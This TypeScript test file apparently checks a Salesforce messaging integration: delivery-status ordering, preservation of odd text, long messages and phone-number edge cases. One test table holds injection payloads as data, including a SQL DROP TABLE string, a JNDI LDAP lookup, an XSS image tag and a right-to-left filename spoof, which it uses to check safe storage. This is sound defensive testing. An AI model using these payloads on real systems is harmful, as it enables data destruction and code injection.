import type { DeliveryUpdate } from '../../../bridge/conversations/model.ts';
import { deliveryTo, messageFrom } from '../../support/customer-events.ts';
import { startDeliveries, type Deliveries } from '../salesforce/start-deliveries.ts';

const start = Math.floor(Date.now() / 1000) * 1000 - 3_600_000;
const at = (second: number) => new Date(start + second * 1000);

describe('in Salesforce', () => {
  let parts: Deliveries;

  beforeAll(async () => {
    parts = await startDeliveries();
  }, 60_000);
  afterAll(() => parts.stop());

  function orders<Item>(items: readonly Item[]): readonly (readonly Item[])[] {
    if (items.length < 2) return [items];
    return items.flatMap((first) =>
      orders(items.filter((item) => item !== first)).map((rest) => [first, ...rest]),
    );
  }

  test('the four delivery statuses end the same in each of their 24 orders, and when one of them is left out', async () => {
    const customer = '+14155550151';
    await parts.tell(messageFrom([customer], 'asks', { occurredAt: at(0) }));
    const { Id: conversation } = parts.row(
      `SELECT Id FROM ParleyConversation__c WHERE CustomerAddress__c = '${customer}'`,
    );
    const statuses = [
      'Sent',
      'Delivered',
      'Read',
      'Failed',
    ] as const satisfies readonly DeliveryUpdate['deliveryStatus'][];
    const all = orders(statuses);
    const rep = parts.as('admin@parley.test');
    const queue = () =>
      rep.create('ParleyMessage__c', {
        Conversation__c: conversation,
        Direction__c: 'Outbound',
        DeliveryStatus__c: 'Queued',
        Kind__c: 'Text',
        Body__c: 'Hello',
      });
    expect(all).toHaveLength(24);
    const told = [
      ...all.map((order) => ({ id: queue(), order, end: 'Read' })),
      ...orders(['Sent', 'Read'] as const).map((order) => ({ id: queue(), order, end: 'Read' })),
      ...orders(['Sent', 'Delivered'] as const).map((order) => ({ id: queue(), order, end: 'Delivered' })),
      ...orders(['Sent', 'Failed'] as const).map((order) => ({ id: queue(), order, end: 'Failed' })),
    ];
    await parts.send(Object.fromEntries(told.map(({ id }) => [id, `${id} sent`])));
    for (const round of [0, 1, 2, 3]) {
      await parts.tell(
        ...told.flatMap(({ id, order }) => {
          const deliveryStatus = order[round];
          return deliveryStatus
            ? [
                deliveryTo([customer], `${id} sent`, {
                  deliveryStatus,
                  occurredAt: at(10 + statuses.indexOf(deliveryStatus)),
                }),
              ]
            : [];
        }),
      );
    }
    for (const { id, order, end } of told) {
      const row = parts.row(`SELECT DeliveryStatus__c FROM ParleyMessage__c WHERE Id = '${id}'`);
      expect([order, row['DeliveryStatus__c']]).toEqual([order, end]);
    }
  });

  const lookup = ['$', '{jndi:ldap://example.com/a}'].join('');
  const words: readonly (readonly [string, string, string])[] = [
    ['a quote and SQL', "'; DROP TABLE ParleyMessage__c; --", "'; DROP TABLE ParleyMessage__c; --"],
    ['a backslash at its end', 'C:\\', 'C:\\'],
    ['a formula of a spreadsheet', '=HYPERLINK("https://example.com")', '=HYPERLINK("https://example.com")'],
    ['the variable of a template', '{{1}} {{name}}', '{{1}} {{name}}'],
    ['a lookup of a log', lookup, lookup],
    ['HTML', '<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
    ['a reference of a composite request', '@{conversation.id}', '@{conversation.id}'],
    ['a merge field', '{!$User.Email}', '{!$User.Email}'],
    ['NUL and other controls', 'a\u0000b\u0007c', 'abc'],
    ['half of a pair', 'a\ud83d', 'a\ufffd'],
    ['text from right to left', 'gpj\u202eexe', 'gpj\u202eexe'],
    ['characters without width', 'a\u200b\ufeffb', 'a\u200b\ufeffb'],
  ];

  test.each(words)(
    'a name and a text with %s are kept as they are, as far as a field can',
    async (what, given, kept) => {
      const id = `words ${words.findIndex(([one]) => one === what)}`;
      const customer = `US.${9000 + words.findIndex(([one]) => one === what)}`;
      const event = messageFrom([customer], id, { text: given, occurredAt: at(1) });
      await parts.tell({ ...event, customer: { ...event.customer, name: given } });
      expect(
        parts.row(`SELECT Body__c FROM ParleyMessage__c WHERE ExternalId__c = 'meta:${id}'`)['Body__c'],
      ).toBe(kept);
      expect(
        parts.row(
          `SELECT CustomerName__c FROM ParleyConversation__c WHERE CustomerAddress__c = '${customer}'`,
        )['CustomerName__c'],
      ).toBe(kept);
    },
  );

  test.each([
    ['no character', ''],
    ['blanks only', '   \n '],
    ['characters without width only', '\u200b\u200d'],
  ])('a text of %s is a message all the same', async (what, text) => {
    const id = `blank ${what}`;
    await parts.tell(messageFrom(['US.9100'], id, { text, occurredAt: at(2) }));
    expect(parts.rows(`SELECT Id FROM ParleyMessage__c WHERE ExternalId__c = 'meta:${id}'`)).toHaveLength(1);
  });

  test('a text of 65,536 characters is whole, and in the list of conversations it is cut between two characters', async () => {
    const text = `${'x'.repeat(254)}${'😀'.repeat(32_641)}`;
    expect(text).toHaveLength(65_536);
    await parts.tell(messageFrom(['US.9101'], 'long', { text, occurredAt: at(3) }));
    expect(
      parts.row("SELECT Body__c FROM ParleyMessage__c WHERE ExternalId__c = 'meta:long'")['Body__c'],
    ).toBe(text);
    const preview = String(
      parts.row(
        "SELECT LastMessagePreview__c FROM ParleyConversation__c WHERE CustomerAddress__c = 'US.9101'",
      )['LastMessagePreview__c'],
    );
    expect(preview.length).toBeLessThanOrEqual(255);
    expect(preview.isWellFormed()).toBe(true);
  });

  test.each([
    ['an eight-digit number of Brazil', '+556181119876'],
    ['a number of Mexico with the 1', '+5215512345678'],
    ['a number of Argentina with the 9', '+5491123456789'],
    ['a number that nobody could have', '+999'],
    ['a short code', '40404'],
    ['a sender of letters', 'BANK'],
    ['a number that is withheld', '+266696687'],
    ['a word for nobody', 'anonymous'],
  ])(
    'a text from %s is a conversation with that address, and the contact of nobody else',
    async (what, address) => {
      const id = `from ${what}`;
      const kind = address.startsWith('+') ? 'number' : 'word';
      parts
        .as('admin@parley.test')
        .create('Contact', { LastName: 'Sample', Phone: '+266696687', HomePhone: '40404' });
      await parts.tell({
        ...messageFrom([address], id, { occurredAt: at(4) }),
        provider: 'twilio',
        channelKey: 'phone:+12025550101',
        customer: { address, handles: [{ kind, value: address }] },
      });
      expect(
        parts.rows(
          `SELECT CustomerAddress__c, Contact__c FROM ParleyConversation__c
         WHERE Id IN (SELECT Conversation__c FROM ParleyMessage__c WHERE ExternalId__c = 'twilio:${id}')`,
        ),
      ).toMatchObject([{ CustomerAddress__c: address, Contact__c: null }]);
    },
  );

  test('none of it is in the log', () => {
    for (const [, given] of words) expect(parts.logText()).not.toContain(given);
  });
});
